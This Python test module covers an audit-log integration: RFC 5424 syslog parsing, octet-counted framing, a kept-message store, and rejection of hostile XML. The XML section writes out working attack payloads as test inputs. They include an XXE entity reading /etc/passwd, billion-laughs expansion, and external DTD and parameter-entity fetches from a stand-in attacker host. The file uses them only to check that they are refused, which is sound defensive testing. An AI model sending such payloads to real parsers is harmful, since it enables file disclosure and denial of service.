"""RFC 5424 syslog parsing, RFC 5425 octet-counting framing, the kept-messages store, and
hostile XML: every bad input is refused with a stable reason code, never accepted."""

from __future__ import annotations

import os
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from integrations.atna.dicom_audit import parse_audit_message
from integrations.atna.dicom_audit.safe_xml import ForbiddenXml, NoDoctype
from integrations.atna.kept import KeptRecord, KeptStore, read_kept
from integrations.atna.rfc5424 import (
    BOM,
    Frame,
    FrameError,
    OctetCountingDecoder,
    SdElement,
    format_syslog,
    frame_octet_counted,
    parse_syslog,
)
from integrations.errors import AtnaParseError, KeptStoreError, KeptStoreFullError
from producers.codec import Codec

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "dicom-audit"

# --------------------------------------------------------------------------- RFC 5424


def test_rfc5424_example_1_with_bom_and_nil_structured_data() -> None:
    raw = (
        b"<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - "
        + BOM
        + b"'su root' failed for lonvick on /dev/pts/8"
    )
    m = parse_syslog(raw)
    assert (m.facility, m.severity, m.pri, m.version) == (4, 2, 34, 1)
    assert m.timestamp == datetime(2003, 10, 11, 22, 14, 15, 3000, tzinfo=UTC)
    assert (m.hostname, m.app_name, m.procid, m.msgid) == (
        "mymachine.example.com",
        "su",
        None,
        "ID47",
    )
    assert m.structured_data == ()
    assert m.bom is True
    assert m.msg == b"'su root' failed for lonvick on /dev/pts/8"


def test_rfc5424_example_2_offset_and_microseconds_no_bom() -> None:
    m = parse_syslog(
        b"<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - %% It's time"
    )
    assert m.timestamp == datetime(2003, 8, 24, 5, 14, 15, 3, tzinfo=timezone(-timedelta(hours=7)))
    assert m.timestamp.astimezone(UTC).hour == 12
    assert (m.procid, m.msgid, m.bom, m.msg) == ("8710", None, False, b"%% It's time")


def test_rfc5424_structured_data_with_escapes_and_several_elements() -> None:
    m = parse_syslog(
        b'<165>1 2003-10-11T22:14:15.003Z host evntslog - ID47 [exampleSDID@32473 iut="3" '
        b'eventSource="App\\"lication\\]" path="C:\\temp\\\\x"][examplePriority@32473 class="high"]'
    )
    assert m.structured_data == (
        SdElement(
            "exampleSDID@32473",
            (("iut", "3"), ("eventSource", 'App"lication]'), ("path", "C:\\temp\\x")),
        ),
        SdElement("examplePriority@32473", (("class", "high"),)),
    )
    assert m.msg == b""


def test_nilvalue_everywhere_and_empty_msg() -> None:
    m = parse_syslog(b"<0>1 - - - - - -")
    assert (m.timestamp, m.hostname, m.app_name, m.procid, m.msgid) == (None,) * 5
    assert (m.facility, m.severity, m.msg, m.bom) == (0, 0, b"", False)
    assert parse_syslog(b"<191>1 - - - - - - ").msg == b""


def test_format_syslog_round_trips() -> None:
    when = datetime(2026, 3, 1, 12, 0, 0, 123456, tzinfo=UTC)
    sd = (SdElement("origin@1", (("ip", "10.0.0.1"), ("q", 'a"b]c\\'))),)
    raw = format_syslog(
        b"<AuditMessage/>", timestamp=when, hostname="pacs01", app_name="ATNA", procid="77",
        structured_data=sd,
    )  # fmt: skip
    m = parse_syslog(raw)
    assert (m.timestamp, m.hostname, m.app_name, m.procid, m.msgid) == (
        when, "pacs01", "ATNA", "77", "IHE+RFC-3881"
    )  # fmt: skip
    assert m.structured_data == sd
    assert (m.msg, m.bom, m.facility, m.severity) == (b"<AuditMessage/>", True, 10, 5)


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"34>1 - - - - - -", "bad_pri"),
        (b"<>1 - - - - - -", "bad_pri"),
        (b"<192>1 - - - - - -", "bad_pri"),
        (b"<013>1 - - - - - -", "bad_pri"),
        (b"<1a>1 - - - - - -", "bad_pri"),
        (b"<1234>1 - - - - - -", "bad_pri"),
        (b"<13> - - - - - -", "bad_version"),
        (b"<13>2 - - - - - -", "bad_version"),
        (b"<13>01 - - - - - -", "bad_version"),
        (b"<13>1 - - - -", "bad_header"),
        (b"<13>1  - - - - -", "bad_timestamp"),
        (b"<13>1 - host  - - - -", "bad_header"),
        (b"<13>1 2003-10-11 22:14:15Z - - - - -", "bad_timestamp"),
        (b"<13>1 2003-10-11t22:14:15Z - - - - -", "bad_timestamp"),
        (b"<13>1 2003-10-11T22:14:15z - - - - -", "bad_timestamp"),
        (b"<13>1 2003-10-11T22:14:15 - - - - -", "bad_timestamp"),
        (b"<13>1 1985-12-31T23:59:60Z - - - - -", "bad_timestamp"),  # no leap seconds
        (b"<13>1 2003-08-24T05:14:15.000000003-07:00 - - - - -", "bad_timestamp"),
        (b"<13>1 2003-02-30T05:14:15Z - - - - -", "bad_timestamp"),
        (b"<13>1 2003-02-03T05:14:15+24:00 - - - - -", "bad_timestamp"),
        (b"<13>1 - " + b"h" * 256 + b" - - - -", "bad_hostname"),
        (b"<13>1 - h\xc3\xa9 - - - -", "bad_hostname"),
        (b"<13>1 - h " + b"a" * 49 + b" - - -", "bad_app_name"),
        (b"<13>1 - h a " + b"p" * 129 + b" - -", "bad_procid"),
        (b"<13>1 - h a p " + b"m" * 33 + b" -", "bad_msgid"),
        (b"<13>1 - h a p m x", "bad_structured_data"),
        (b"<13>1 - h a p m [id", "bad_structured_data"),
        (b'<13>1 - h a p m [id a="1"][id b="2"]', "bad_structured_data"),
        (b'<13>1 - h a p m [id a="x]y"]', "bad_structured_data"),
        (b"<13>1 - h a p m [id a=1]", "bad_structured_data"),
        (b'<13>1 - h a p m [id a="1"', "bad_structured_data"),
        (b'<13>1 - h a p m [i=d a="1"]', "bad_structured_data"),
        (b'<13>1 - h a p m [id a="\xff"]', "bad_structured_data"),
        (b'<13>1 - h a p m [id a="1"]x', "bad_structured_data"),
        (b"<13>1 - h a p m - " + BOM + b"\xff\xfe", "bad_utf8"),
    ],
)
def test_malformed_messages_are_refused_with_a_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(AtnaParseError) as caught:
        parse_syslog(raw)
    assert caught.value.reason == reason, str(caught.value)


def test_msg_without_bom_may_be_any_bytes() -> None:
    assert parse_syslog(b"<13>1 - - - - - - \xff\x00binary").msg == b"\xff\x00binary"


# --------------------------------------------------------------------------- framing


def _messages(n: int) -> list[bytes]:
    return [format_syslog(b"<AuditMessage>%d</AuditMessage>" % i) for i in range(n)]


def test_octet_counting_every_split_of_the_stream() -> None:
    messages = _messages(3)
    stream = b"".join(frame_octet_counted(m) for m in messages)
    for cut in range(len(stream) + 1):
        decoder = OctetCountingDecoder(1024)
        got = decoder.feed(stream[:cut]) + decoder.feed(stream[cut:])
        assert got == [Frame(m) for m in messages]
        assert decoder.pending == 0
        assert decoder.finish() is None


def test_octet_counting_byte_by_byte() -> None:
    messages = _messages(4)
    decoder = OctetCountingDecoder(1024)
    got: list[Frame | FrameError] = []
    for byte in b"".join(frame_octet_counted(m) for m in messages):
        got += decoder.feed(bytes([byte]))
    assert got == [Frame(m) for m in messages]


def test_oversize_frame_is_an_error_with_what_was_read() -> None:
    decoder = OctetCountingDecoder(100)
    ok = format_syslog(b"x" * 10)
    out = decoder.feed(frame_octet_counted(ok) + b"101 " + b"y" * 50)
    assert out[0] == Frame(ok)
    error = out[1]
    assert isinstance(error, FrameError)
    assert error.reason == "oversize"
    assert error.data.startswith(b"101 yyy")
    assert decoder.broken
    assert decoder.feed(b"more") == []


def test_oversize_length_without_its_space_yet() -> None:
    decoder = OctetCountingDecoder(100)
    (error,) = decoder.feed(b"12345")  # 4 digits cannot be <= 100
    assert isinstance(error, FrameError)
    assert error.reason == "oversize"


@pytest.mark.parametrize("stream", [b"abc def", b"0 ", b"012 x", b" 12 x", b"1x2 "])
def test_bad_frame_headers(stream: bytes) -> None:
    (error,) = OctetCountingDecoder(1000).feed(stream)
    assert isinstance(error, FrameError)
    assert error.reason == "bad_frame"


def test_truncated_stream() -> None:
    decoder = OctetCountingDecoder(1000)
    assert decoder.feed(b"20 only-part") == []
    tail = decoder.finish()
    assert tail is not None
    assert tail.reason == "truncated"
    assert tail.data == b"20 only-part"


# --------------------------------------------------------------------------- hostile XML

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<AuditMessage><EventIdentification EventDateTime="&xxe;"/></AuditMessage>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<AuditMessage>&lol9;</AuditMessage>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage SYSTEM "http://attacker.invalid/audit.dtd">
<AuditMessage/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<AuditMessage/>"""

INTERNAL_SUBSET_ONLY = b"""<!DOCTYPE AuditMessage [<!ELEMENT AuditMessage ANY>]><AuditMessage/>"""

# Not ASCII-compatible: the quick check must decode it to see the declaration.
BILLION_LAUGHS_UTF16 = (
    BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
    .decode()
    .encode("utf-16")
)


@pytest.mark.parametrize(
    "payload",
    [
        XXE,
        BILLION_LAUGHS,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        INTERNAL_SUBSET_ONLY,
        BILLION_LAUGHS_UTF16,
    ],
)
def test_hostile_xml_is_refused_before_expansion(payload: bytes) -> None:
    with pytest.raises(AtnaParseError) as caught:
        parse_audit_message(payload)
    assert caught.value.reason == "xml_forbidden"


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, BILLION_LAUGHS_UTF16])
def test_the_parser_guard_alone_refuses_a_doctype(payload: bytes) -> None:
    # The backstop behind the quick check: expat's own doctype callback.
    parser = ET.XMLParser(target=NoDoctype())
    with pytest.raises(ForbiddenXml):
        parser.feed(payload)


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"<AuditMessage>", "xml_malformed"),
        (b"not xml at all", "xml_malformed"),
        (b"", "xml_malformed"),
        (b'<?xml version="1.0" encoding="x-nonexistent"?><AuditMessage/>', "xml_malformed"),
        (b"<Html><body/></Html>", "xml_not_audit_message"),
        (b"<AuditMessage/>", "xml_invalid"),
    ],
)
def test_malformed_xml(payload: bytes, reason: str) -> None:
    with pytest.raises(AtnaParseError) as caught:
        parse_audit_message(payload)
    assert caught.value.reason == reason


def _corpus(name: str) -> bytes:
    return (CORPUS / name).read_bytes()


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        (b'EventDateTime="2026-03-02T14:07:31.250-05:00"', b'EventDateTime="yesterday"',
         "EventDateTime"),
        (b'EventOutcomeIndicator="0"', b"", "EventOutcomeIndicator"),
        (b'UserID="rad004.kowalski"', b"", "UserID"),
        (b'UserIsRequestor="true"', b'UserIsRequestor="maybe"', "UserIsRequestor"),
        (b'AuditSourceID="pacs01"', b"", "AuditSourceID"),
        (b'value="Q1Q="', b'value="not base64!"', "ParticipantObjectDetail"),
        (b'NumberOfInstances="412"', b'NumberOfInstances="many"', "NumberOfInstances"),
        (b'<EventID csd-code="110103"', b'<EventID code-missing="110103"', "EventID"),
    ],
)  # fmt: skip
def test_invalid_audit_message_names_the_element(old: bytes, new: bytes, where: str) -> None:
    payload = _corpus("instances-accessed.xml")
    assert old in payload
    with pytest.raises(AtnaParseError) as caught:
        parse_audit_message(payload.replace(old, new))
    assert caught.value.reason == "xml_invalid"
    assert where in str(caught.value)


def test_a_namespaced_audit_message_is_read_like_a_plain_one() -> None:
    plain = parse_audit_message(_corpus("instances-accessed.xml"))
    namespaced = _corpus("instances-accessed.xml").replace(
        b"<AuditMessage>", b'<AuditMessage xmlns="urn:example:audit">'
    )
    assert parse_audit_message(namespaced) == plain


# --------------------------------------------------------------------------- kept store


def _record(i: int, reason: str = "no_patient") -> KeptRecord:
    return KeptRecord(
        raw=b"<13>1 - - - - - message %d \xff" % i,
        received_at=datetime(2026, 3, 1, tzinfo=UTC) + timedelta(seconds=i),
        transport="tls",
        peer="127.0.0.1:5000",
        reason=reason,
        detail=f"detail {i}",
    )


def test_kept_store_appends_reopens_and_reads(tmp_path: Path) -> None:
    store = KeptStore(tmp_path / "kept", segment_bytes=600)
    store.open()
    assert store.append([_record(1), _record(2, "bad_pri")]) == [1, 2]
    assert store.append([_record(3)]) == [3]
    store.close()
    assert oct((tmp_path / "kept").stat().st_mode & 0o777) == "0o700"
    segments = sorted((tmp_path / "kept").glob("kept-*.jsonl"))
    assert len(segments) >= 2  # rolled at 600 bytes
    assert all(oct(p.stat().st_mode & 0o777) == "0o600" for p in segments)
    kept = list(read_kept(tmp_path / "kept"))
    assert [k.id for k in kept] == [1, 2, 3]
    assert kept[0].raw == _record(1).raw
    assert kept[0].peer == "127.0.0.1:5000"
    assert kept[0].received_at == _record(1).received_at
    assert [k.id for k in read_kept(tmp_path / "kept", reason="bad_pri")] == [2]
    assert [k.id for k in read_kept(tmp_path / "kept", after_id=1, limit=1)] == [2]
    again = KeptStore(tmp_path / "kept", segment_bytes=600)
    again.open()
    assert again.append([_record(4)]) == [4]
    again.close()


def test_kept_store_cuts_a_torn_last_line(tmp_path: Path) -> None:
    store = KeptStore(tmp_path)
    store.open()
    store.append([_record(1)])
    store.close()
    (segment,) = tmp_path.glob("kept-*.jsonl")
    with segment.open("ab") as f:
        f.write(b'{"id": 2, "recei')
    store = KeptStore(tmp_path)
    store.open()
    assert store.append([_record(2)]) == [2]
    store.close()
    assert [k.id for k in read_kept(tmp_path)] == [1, 2]


def test_kept_store_full_writes_what_fits_and_says_so(tmp_path: Path) -> None:
    store = KeptStore(tmp_path, max_bytes=500)
    store.open()
    with pytest.raises(KeptStoreFullError) as caught:
        store.append([_record(1), _record(2), _record(3)])
    assert caught.value.written == (1, 2)
    assert [k.id for k in read_kept(tmp_path)] == [1, 2]
    store.close()


def test_kept_store_is_locked_by_one_process(tmp_path: Path) -> None:
    first = KeptStore(tmp_path)
    first.open()
    try:
        with pytest.raises(KeptStoreError, match="in use"):
            KeptStore(tmp_path).open()
    finally:
        first.close()
    assert os.listdir(tmp_path) == ["LOCK"]


def test_parse_batch_results_cross_process_boundaries_intact() -> None:
    from multiprocessing.reduction import ForkingPickler

    from integrations.atna.parsing import register_pickling

    register_pickling()

    from integrations.atna.dicom_audit import events_from_dicom
    from integrations.atna.parsing import Parsed, _namespaced, parse_batch
    from integrations.atna.senders import SenderPolicy

    payloads = [p.read_bytes() for p in sorted(CORPUS.glob("*.xml"))]
    # Every corpus message maps; one whose patient object is not one fits no schema.
    accessed = (CORPUS / "instances-accessed.xml").read_bytes()
    payloads.append(
        accessed.replace(b'ParticipantObjectTypeCodeRole="1"', b'ParticipantObjectTypeCodeRole="6"')
    )
    raws: list[bytes | None] = [format_syslog(p, hostname="pacs01") for p in payloads]
    raws += [None, b"<13>1 - - - - OTHER - x", b"not syslog"]
    codec = Codec()
    sender = "tls:pacs01.example"
    sources = {m.decode() for p in payloads for m in re.findall(rb'AuditSourceID="([^"]*)"', p)}
    policy = SenderPolicy(tls={"pacs01.example": frozenset(sources)})
    results = parse_batch(raws, [sender] * len(raws), None, codec, policy)
    assert len(results) == len(raws)
    assert results[-3] == Parsed()
    assert results[-2].reason == "unexpected_msgid"
    assert results[-1].reason is not None
    assert any(r.events for r in results)
    assert any(r.reason for r in results[: len(payloads)])
    for payload, result in zip(payloads, results, strict=False):
        if result.events:
            assert result.events == tuple(
                codec.prepare(_namespaced(e, sender)) for e in events_from_dicom(payload)
            )
    # as the worker process gets its arguments and returns its results (the codec's
    # schemas hold MappingProxyType values)
    assert ForkingPickler.loads(bytes(ForkingPickler.dumps(results))) == results
    copy = ForkingPickler.loads(bytes(ForkingPickler.dumps(codec)))
    assert parse_batch(raws, [sender] * len(raws), None, copy, policy) == results
